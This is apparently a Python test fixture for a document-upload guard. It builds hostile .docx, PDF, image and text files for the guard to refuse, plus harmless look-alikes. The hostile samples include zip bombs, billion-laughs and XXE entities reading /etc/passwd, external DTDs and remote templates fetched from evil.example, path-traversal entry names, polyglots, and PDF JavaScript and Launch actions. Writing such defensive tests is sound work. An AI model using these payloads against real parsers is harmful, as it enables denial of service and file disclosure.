"""Files that must not be opened, each with the flaw for which it is refused; and harmless ones
that look a little like them."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, replace

from bot.documents.guarded.jobs import LONGEST_PAPER, LONGEST_PARAGRAPH, MOST_PARAGRAPHS
from tests.integration.files import archives, scans
from tests.integration.files.archives import MAIN, TYPES, Entry, build_docx, relate

WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
AFAR = "http://evil.example/a"
SEVEN = b"<?xml version='1.0' encoding='UTF-7'?>+ADwAIQ-DOCTYPE a>"
WIDE = "<?xml version='1.0' encoding='UTF-16'?><a/>"
BARE = f"<w:document xmlns:w='{archives.W}'><w:body/></w:document>"
SCRIPT = "/AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"
LAUGHS = "".join(f"<!ENTITY l{at} '{f'&l{at - 1};' * 10}'>" for at in range(1, 10))
DECLARED = {
    "laughs": f"<!DOCTYPE a [<!ENTITY l0 'ha'>{LAUGHS}]><a>&l9;</a>",
    "quadratic": f"<!DOCTYPE a [<!ENTITY b '{'b' * 50_000}'>]><a>{'&b;' * 9000}</a>",
    "outside": "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "dtd": "<!DOCTYPE a SYSTEM 'http://evil.example/a.dtd'><a/>",
    "parameter": "<!DOCTYPE a [<!ENTITY % b SYSTEM 'http://evil.example/b'>%b;]><a/>",
}


@dataclass(frozen=True)
class File:
    """A file under a name, and its flaw; several where it depends on the machine which is met."""

    name: str
    build: Callable[[], bytes]
    flaws: tuple[str, ...] = ()


def main(inside: str = "", attributes: str = "") -> bytes:
    return build_docx({MAIN: archives.build_main(inside, attributes)})


def name_entry(name: str | bytes) -> bytes:
    return build_docx(None, Entry(name.encode() if isinstance(name, str) else name, b"x"))


def _pack_many_small() -> bytes:
    more = {f"word/media/{at}.xml": b"<a>" + b" " * 1_000_000 + b"</a>" for at in range(100)}
    return build_docx(more)


def _lie_small() -> bytes:
    entries = archives.list_entries()
    body = archives.build_main().encode() + b" " * 60_000_000
    return archives.pack([*entries[:-1], Entry(MAIN.encode(), body, said_size=1000)])


def _lie_large() -> bytes:
    return build_docx(None, Entry(b"word/media/a.bin", b"a", said_size=4_000_000_000))


def _cut(body: bytes) -> bytes:
    return body[: len(body) * 2 // 3]


def _hide_between() -> bytes:
    entries = archives.list_entries()
    first = archives.pack(entries[:1])
    at = first.index(b"PK\x01\x02")
    return archives.pack(
        [replace(entries[0], offset=0), *entries[1:]], first[:at] + b"%PDF-1.4 " * 9
    )


HOSTILE = [
    # Archives that unpack to too much.
    File(
        "大.docx",
        lambda: build_docx({"word/media/a.png": bytes(60_000_000)}),
        ("unpacks_too_much",),
    ),
    File("正文大.docx", lambda: main("<w:p/>" * 4_000_000), ("unpacks_too_much",)),
    File("许多.docx", _pack_many_small, ("unpacks_too_much",)),
    File("重叠.docx", lambda: archives.overlap(300), ("unpacks_too_much",)),
    File("引用.docx", lambda: archives.quote(200), ("unpacks_too_much",)),
    File("少报.docx", _lie_small, ("broken",)),
    File("多报.docx", _lie_large, ("unpacks_too_much",)),
    File(
        "一万.docx",
        lambda: build_docx({f"a/{at}": b"" for at in range(10_000)}),
        ("too_many_entries",),
    ),
    File("元素多.docx", lambda: main("<w:r><w:t>a</w:t></w:r>" * 700_000), ("unpacks_too_much",)),
    File(
        "属性多.docx",
        lambda: main("<w:p " + "".join(f"a{at}='' " for at in range(600_000)) + "/>"),
        ("unpacks_too_much", "broken"),
    ),
    File(
        "属性长.docx", lambda: main(f"<w:p a='{'é' * 9_000_000}'/>"), ("unpacks_too_much", "broken")
    ),
    File("很深.docx", lambda: main("<w:r>" * 100_000 + "</w:r>" * 100_000), ("unpacks_too_much",)),
    File("深.docx", lambda: main("<w:r>" * 3000 + "</w:r>" * 3000), ("broken",)),
    File(
        "一段.docx",
        lambda: main(f"<w:p><w:r><w:t>{'字' * 3_300_000}</w:t></w:r></w:p>"),
        ("too_long", "unpacks_too_much", "broken"),
    ),
    # What XML may declare.
    *(
        File(
            f"{name}.docx",
            lambda xml=xml: build_docx({"word/settings.xml": xml}),
            ("declarations",),
        )
        for name, xml in DECLARED.items()
    ),
    File(
        "宽.docx",
        lambda: build_docx({"word/settings.xml": DECLARED["dtd"].encode("utf-16")}),
        ("declarations",),
    ),
    File(
        "宽二.docx",
        lambda: build_docx({"word/settings.xml": DECLARED["dtd"].encode("utf-16-le")}),
        ("declarations", "broken"),
    ),
    File("utf7.docx", lambda: build_docx({"word/settings.xml": SEVEN}), ("declarations",)),
    File("cp037.docx", lambda: build_docx({MAIN: DECLARED["dtd"].encode("cp037")}), ("broken",)),
    File("关系.docx", lambda: build_docx({"_rels/.rels": DECLARED["outside"]}), ("declarations",)),
    # What is locked, or runs.
    File("加密.docx", lambda: archives.encrypt_entries(build_docx()), ("password",)),
    File(
        "密码.docx",
        lambda: OLE + "EncryptedPackage".encode("utf-16-le") + bytes(400),
        ("password",),
    ),
    File("旧.docx", lambda: OLE, ("old_format",)),
    File("宏.docx", lambda: build_docx({"word/vbaProject.bin": OLE}), ("macros",)),
    File(
        "宏二.docx",
        lambda: build_docx({TYPES: f"<Types><Override ContentType='{WORD}'/></Types>"}),
        ("macros",),
    ),
    # What is fetched from afar.
    File(
        "模板.docx",
        lambda: build_docx(
            {
                "word/_rels/settings.xml.rels": archives.build_relations(
                    ("attachedTemplate", AFAR, " TargetMode='External'")
                )
            }
        ),
        ("remote_template",),
    ),
    File(
        "共享.docx",
        lambda: relate("attachedTemplate", r"\\evil\share\a.dotm"),
        ("remote_template",),
    ),
    File(
        "共享二.docx",
        lambda: relate("attachedTemplate", "file://evil/share/a.dotm"),
        ("remote_template",),
    ),
    *(
        File(f"{kind}.docx", lambda kind=kind: relate(kind, AFAR), ("remote_template",))
        for kind in ("oleObject", "frame", "subDocument", "externalLink", "image")
    ),
    File(
        "脚本.docx",
        lambda: relate("oleObject", "mhtml:http://evil.example/a!x-usc:b"),
        ("remote_template",),
    ),
    # Names.
    *(
        File(f"名{at}.docx", lambda name=name: name_entry(name), ("bad_names",))
        for at, name in enumerate(
            (
                "../../etc/passwd",
                "word/../../a",
                "/etc/passwd",
                "C:/a",
                "..\\a",
                "word/\u202excod.exe",
                b"word/a.png\0.xml",
                "word/\u200fa",
                "WORD/document.XML",
                MAIN,
            )
        )
    ),
    File(
        "链接.docx",
        lambda: build_docx(None, Entry(b"word/a", b"/etc/passwd", mode=0o120777)),
        ("bad_names",),
    ),
    # Two files in one, or another one.
    File("gif.docx", lambda: b"GIF89a" + build_docx(), ("mismatch",)),
    File("前.docx", lambda: b"#!/bin/sh\n" + build_docx(), ("mismatch",)),
    File(
        "前二.docx",
        lambda: archives.pack(archives.list_entries(), b"PK\x03\x04 and %PDF-1.4 "),
        ("mismatch",),
    ),
    File("中.docx", _hide_between, ("mismatch",)),
    File("后.docx", lambda: build_docx() + scans.build_pdf(), ("mismatch",)),
    File(
        "注.docx",
        lambda: archives.pack(archives.list_entries(), comment=b"<script>"),
        ("mismatch",),
    ),
    File("图.docx", lambda: scans.draw() + build_docx(), ("mismatch",)),
    File("pdf.docx", scans.build_pdf, ("mismatch",)),
    File("pdf.txt", scans.build_pdf, ("mismatch",)),
    File("docx.txt", build_docx, ("mismatch",)),
    File("后.txt", lambda: "正文".encode() + build_docx(), ("mismatch",)),
    File("富.txt", lambda: rb"{\rtf1 a}", ("mismatch",)),
    File("压.pdf", lambda: scans.build_pdf() + build_docx(), ("mismatch",)),
    File("网页.pdf", lambda: b"<html>" + scans.build_pdf(), ("mismatch",)),
    File("压.jpg", lambda: scans.draw() + build_docx(), ("mismatch",)),
    File("网页.jpg", lambda: b"<html><script>" + scans.draw(), ("not_a_picture",)),
    File("动.png", lambda: scans.draw("GIF"), ("not_a_picture",)),
    # What is damaged, empty, or no text.
    File("断.docx", lambda: _cut(build_docx()), ("broken",)),
    File("断.pdf", lambda: scans.build_pdf()[:40], ("broken",)),
    File("断.png", lambda: _cut(scans.flood_png(900, 900, 900)), ("not_a_picture",)),
    File("断.jpg", lambda: scans.draw(size=(900, 900))[:400], ("not_a_picture",)),
    File("空.docx", bytes, ("empty",)),
    File("空.txt", bytes, ("empty",)),
    File("空白.txt", lambda: " \n\u3000\n".encode(), ("empty",)),
    File("空.pdf", bytes, ("empty",)),
    File("空.png", bytes, ("not_a_picture",)),
    File("没字.docx", lambda: build_docx({MAIN: BARE}), ("empty",)),
    File("零.txt", lambda: b"a\0b", ("not_text",)),
    File("码.txt", lambda: bytes(range(128, 256)) * 40, ("not_text",)),
    File("三十二.txt", lambda: "正文".encode("utf-32"), ("not_text",)),
    File("无标.txt", lambda: "report".encode("utf-16-le"), ("not_text",)),
    File("一行.txt", lambda: b"a" * 9_900_000, ("too_long",)),
    File("段.txt", lambda: "（一）\n".encode() * (MOST_PARAGRAPHS + 1), ("too_long",)),
    File("长.txt", lambda: ("字" * 100 + "\n").encode() * (LONGEST_PAPER // 100), ("too_long",)),
    # PDFs.
    File("万页.pdf", lambda: scans.build_pdf(10_000), ("too_many_pages",)),
    File("巨页.pdf", lambda: scans.build_pdf(box="0 0 1000000000 1000000000"), ("broken",)),
    File("密码.pdf", lambda: scans.build_pdf(trailer=scans.LOCKED), ("password",)),
    File("零页.pdf", lambda: scans.build_pdf(0), ("empty", "broken")),
    File("链.pdf", lambda: b"%PDF-1.5\nstartxref\n9\n%%EOF\n", ("broken",)),
    File("没完.pdf", scans.build_endless_form, ("unpacks_too_much", "broken")),
    File("绕圈.pdf", scans.build_circle, ("broken",)),
    # Pictures.
    File("洪.png", lambda: scans.flood_png(50_000, 50_000), ("too_many_pixels",)),
    File("洪二.png", lambda: scans.flood_png(7000, 7000, 7000), ("too_many_pixels",)),
    File("洪.jpg", lambda: scans.flood_jpeg(65_500, 65_500), ("too_many_pixels",)),
    File("注.png", lambda: scans.comment_png(200_000_000), ("not_a_picture", "too_many_pixels")),
]


def _store(changes: dict[str, bytes | str]) -> bytes:
    """Return a .docx as a program writes it that does not know sizes beforehand."""

    class Pipe(io.RawIOBase):
        """A file that cannot be gone back in."""

        def __init__(self) -> None:
            self.body = bytearray()

        def writable(self) -> bool:
            return True

        def write(self, chunk: bytes) -> int:  # type: ignore[override]
            self.body += chunk
            return len(chunk)

    pipe = Pipe()
    with zipfile.ZipFile(pipe, "w", zipfile.ZIP_DEFLATED) as made:
        for name, part in archives.list_parts(changes).items():
            made.writestr(name, part)
    return bytes(pipe.body)


WPS = """<w:p><w:hyperlink r:id='r0'><w:r><w:t>网站</w:t></w:r></w:hyperlink></w:p>
<w:p><w:ins w:id='1' w:author='张'><w:r><w:t>新加</w:t></w:r></w:ins>
<w:del w:id='2' w:author='张'><w:r><w:delText>删掉</w:delText></w:r></w:del></w:p>
<w:p><w:commentRangeStart w:id='0'/><w:r><w:t>有批注</w:t></w:r>
<w:commentRangeEnd w:id='0'/><w:r><w:commentReference w:id='0'/></w:r></w:p>
<w:sdt><w:sdtContent><w:p><w:r><w:t>控件里</w:t></w:r></w:p></w:sdtContent></w:sdt>"""
OUT = " TargetMode='External'"
TEXT = "一、工作情况\n认真学习，<b>扎实</b>推进。"

HARMLESS = [
    File("小.docx", build_docx),
    File("流.docx", lambda: _store({"word/media/image1.png": scans.draw("PNG")})),
    File(
        "功能.docx",
        lambda: build_docx(
            {
                MAIN: archives.build_main(WPS),
                "word/comments.xml": f"<w:comments xmlns:w='{archives.W}'/>",
                "word/media/image1.png": scans.draw("PNG"),
                "customXml/item1.xml": "<s:customData xmlns:s='http://www.wps.cn/officeDocument/2013/wpsCustomData'/>",
                "word/embeddings/oleObject1.bin": OLE,
                "word/_rels/document.xml.rels": archives.build_relations(
                    ("hyperlink", "https://example.org/a?b=c", OUT),
                    ("hyperlink", "mailto:a@example.org", OUT),
                    ("image", "media/image1.png", ""),
                    ("image", "NULL", OUT),
                    ("image", "file:///C:\\Users\\a\\1.png", OUT),
                    ("oleObject", "embeddings/oleObject1.bin", ""),
                    ("comments", "comments.xml", ""),
                ),
                "word/_rels/settings.xml.rels": archives.build_relations(
                    ("attachedTemplate", "file:///C:\\Users\\Zhang\\Templates\\Normal.dotm", OUT)
                ),
            }
        ),
    ),
    File("宽字符.docx", lambda: build_docx({"word/settings.xml": WIDE.encode("utf-16")})),
    File("目录.docx", lambda: build_docx(None, Entry(b"word/media/", mode=0o40755))),
    File("套娃.docx", lambda: archives.nest(3)),  # what is within is never opened
    File("中文名.docx", lambda: build_docx({"word/media/图片1.png": scans.draw("PNG")})),
    File("国标.txt", lambda: TEXT.encode("gb18030")),
    File("宽.txt", lambda: TEXT.encode("utf-16")),
    File("标.txt", lambda: TEXT.encode("utf-8-sig")),
    File("网页.txt", lambda: "<html>&lt;!DOCTYPE&gt; BM 报告".encode()),
    File("宝马.txt", lambda: b"BMW and GIF8 and RIFF"),
    File("两长段.txt", lambda: ("字" * (LONGEST_PARAGRAPH - 1) + "\n").encode() * 2),
    File("十页.pdf", lambda: scans.build_pdf(10)),
    File("宽页.pdf", lambda: scans.build_pdf(box="0 0 14400 30")),
    File("脚本.pdf", lambda: scans.build_pdf(page=SCRIPT)),
    File("自指.pdf", lambda: scans.write_pdf(["<< /Type /Catalog /Pages 1 0 R >>"])),
    File("启动.pdf", lambda: scans.build_pdf(page="/AA << /O << /S /Launch /F (calc.exe) >> >>")),
    File("图.pdf", lambda: scans.draw("PDF")),
    File("照.jpg", lambda: scans.draw(size=(4000, 3000))),
    File("全景.jpg", lambda: scans.draw(size=(8000, 6000))),
    File("尾.jpg", lambda: scans.draw() + b"motion photo" * 99),
    File("长图.png", lambda: scans.flood_png(1080, 9000, 9000)),
    File("叫图.png", scans.draw),
    File("大写.PNG", lambda: scans.draw("PNG")),
]
